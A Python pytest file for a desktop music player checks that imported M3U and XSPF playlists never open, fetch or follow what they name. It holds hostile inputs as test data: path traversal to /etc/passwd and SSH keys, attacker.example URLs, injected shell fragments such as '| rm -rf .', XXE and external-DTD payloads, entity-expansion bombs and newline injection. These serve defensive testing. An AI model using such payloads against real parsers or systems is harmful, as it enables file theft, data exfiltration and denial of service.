"""Playlists of strangers: nothing they name is opened, followed or fetched, however it is written."""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path

import pytest

from shelf import Shelf
from vibe_desktop.domain import PlaylistLine, VibeError
from vibe_desktop.importing import import_playlist, resolve
from vibe_desktop.library.saved import PlaylistStore
from vibe_desktop.playlists.m3u import write_m3u
from vibe_desktop.playlists.reading import MOST_BYTES, read_playlist

Watching = Callable[[], AbstractContextManager[list[str]]]

ELSEWHERE = [
    "../../../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "file://attacker.example/share/a",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..\\..\\..\\..\\..\\etc\\passwd",
    "\\\\attacker.example\\share\\a.mp3", "smb://attacker.example/share/a.mp3", "http://attacker.example/a.mp3",
    "HTTPS://attacker.example/a", "javascript:alert(1)", "data:audio/mpeg;base64,AAAA", "concat:a.mp3|b.mp3",
    "pipe:0", "/dev/zero", "/dev/stdin", "/proc/self/environ", "~/.ssh/id_rsa", "$HOME/.ssh/id_rsa",
    "| rm -rf .", "`id`", "inner.m3u", "outer.m3u", "outer.xspf", "queue.mp3",
]  # fmt: skip


def as_m3u(locations: list[str]) -> str:
    return "#EXTM3U\n" + "".join(f"#EXTINF:1,A song\n{each}\n" for each in locations)


def as_xspf(locations: list[str]) -> str:
    from xml.sax.saxutils import escape

    tracks = "".join(f"<track><location>{escape(each)}</location></track>" for each in locations)
    return f'<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList>{tracks}</trackList></playlist>'


@pytest.fixture
def lists(shelf: Shelf) -> PlaylistStore:
    return PlaylistStore(shelf.db)


@pytest.mark.parametrize(("name", "write"), [("outer.m3u", as_m3u), ("outer.xspf", as_xspf)])
def test_only_the_playlist_itself_is_opened(
    name: str, write: Callable[[list[str]], str], shelf: Shelf, lists: PlaylistStore, watching: Watching
) -> None:
    file = shelf.folder / name
    file.write_text(write(ELSEWHERE), encoding="utf-8")
    (shelf.folder / "inner.m3u").write_text(as_m3u(["outer.m3u"]), encoding="utf-8")
    (shelf.folder / "queue.mp3").write_bytes(b"not in the library")
    if sys.platform != "win32":
        os.mkfifo(shelf.folder / "a.mp3")

    with watching() as seen:
        number = import_playlist(shelf.tracks, lists, file)
        resolve(shelf.tracks, lists)

    assert [Path(path) for path in seen] == [file]
    entries = lists.entries(number)
    assert [entry.track_id for entry in entries] == [None] * len(ELSEWHERE)
    assert [entry.line.location for entry in entries if entry.line] == ELSEWHERE


def test_a_way_around_leads_to_what_is_known_and_nowhere_else(shelf: Shelf, lists: PlaylistStore) -> None:
    shelf.put("a.mp3")
    shelf.scan()
    file = shelf.folder / "lists" / "list.m3u"
    file.parent.mkdir()
    file.write_text(as_m3u(["../music/../music/./a.mp3", "../music/b.mp3"]), encoding="utf-8")
    [known, unknown] = lists.entries(import_playlist(shelf.tracks, lists, file))
    assert known.track_id == shelf.ids()[shelf.music / "a.mp3"]
    assert unknown.track_id is None


_ENTITY, _MANY = "A" * 50_000, "&a;" * 50_000
_HOSTILE_XML = {
    "billions": "<!DOCTYPE p [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><playlist><title>&i;</title></playlist>",
    "quadratic": f"<!DOCTYPE p [<!ENTITY a '{_ENTITY}'>]><playlist><title>{_MANY}</title></playlist>",
    "a file": "<!DOCTYPE p [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><playlist><title>&a;</title></playlist>",
    "a grammar": "<!DOCTYPE playlist SYSTEM 'http://attacker.example/x.dtd'><playlist/>",
    "a parameter": "<!DOCTYPE p [<!ENTITY % a SYSTEM 'http://attacker.example/x'> %a;]><playlist/>",
    "depths": "<playlist>" * 100_000,
    "names": f"<{'playlist' * 100_000}/>",
}


@pytest.mark.parametrize("kind", _HOSTILE_XML)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_xml_made_to_exhaust_or_to_reach_out_is_refused(
    kind: str, encoding: str, tmp_path: Path, watching: Watching
) -> None:
    file = tmp_path / "list.xspf"
    file.write_text(_HOSTILE_XML[kind], encoding=encoding)
    with watching() as seen, pytest.raises(VibeError, match="not a playlist"):
        read_playlist(file)
    assert [Path(path) for path in seen] == [file]


def test_what_xml_may_point_to_is_not_looked_at(tmp_path: Path, watching: Watching) -> None:
    file = tmp_path / "list.xspf"
    file.write_text(
        '<?xml-stylesheet href="http://attacker.example/a.xsl"?><playlist xmlns:xi="http://www.w3.org/2001/XInclude"'
        ' xsi:schemaLocation="http://attacker.example/a.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<trackList><xi:include href="/etc/passwd"/><track><image>http://attacker.example/a.png</image>'
        "<location>a.mp3</location></track></trackList></playlist>",
        encoding="utf-8",
    )
    with watching() as seen:
        [line] = read_playlist(file).lines
    assert [Path(path) for path in seen] == [file]
    assert line.written.location == "a.mp3"


def test_titles_of_a_playlist_are_bounded_and_on_one_line(shelf: Shelf, lists: PlaylistStore) -> None:
    file = shelf.folder / "list.m3u"
    name, title = "n" * 100_000, "t\u2028" * 100_000
    file.write_text(f"#PLAYLIST:{name}\n#EXTINF:1,{title}\na.mp3\n", encoding="utf-8")
    number = import_playlist(shelf.tracks, lists, file)
    assert len(lists.get(number).name) <= 300
    [entry] = lists.entries(number)
    assert entry.line
    assert len(entry.line.title) <= 300
    assert "\u2028" not in entry.line.title


@pytest.mark.skipif(sys.platform == "win32", reason="no named pipes in folders there")
@pytest.mark.parametrize("what", ["a pipe", "a folder", "endless"])
def test_what_is_no_file_is_not_waited_for(what: str, tmp_path: Path) -> None:
    file = tmp_path / "list.m3u"
    if what == "a pipe":
        os.mkfifo(file)
    elif what == "a folder":
        file.mkdir()
    else:
        file.symlink_to("/dev/zero")
    with pytest.raises(VibeError) as refused:
        read_playlist(file)
    assert refused.value.remedy


def test_a_playlist_in_gigabytes_is_refused_unread(tmp_path: Path) -> None:
    file = tmp_path / "list.m3u"
    with file.open("wb") as stream:
        stream.truncate(8 << 30)
    with pytest.raises(VibeError, match="too large"):
        read_playlist(file)
    assert MOST_BYTES < 8 << 30


@pytest.mark.parametrize(
    "sly", ["\n/etc/passwd", "\r/etc/passwd", "\u2028/etc/passwd", "\x85/etc/passwd", "\0x"]
)
def test_no_title_writes_a_line_of_its_own(sly: str, tmp_path: Path) -> None:
    file = tmp_path / "list.m3u8"
    write_m3u(file, [PlaylistLine(f"a.mp3{sly}", f"Title{sly}")], name=f"Name{sly}")
    lines = file.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 4
    assert [line for line in lines if not line.startswith("#")] == [lines[-1]]
    assert lines[-1].startswith("a.mp3%")
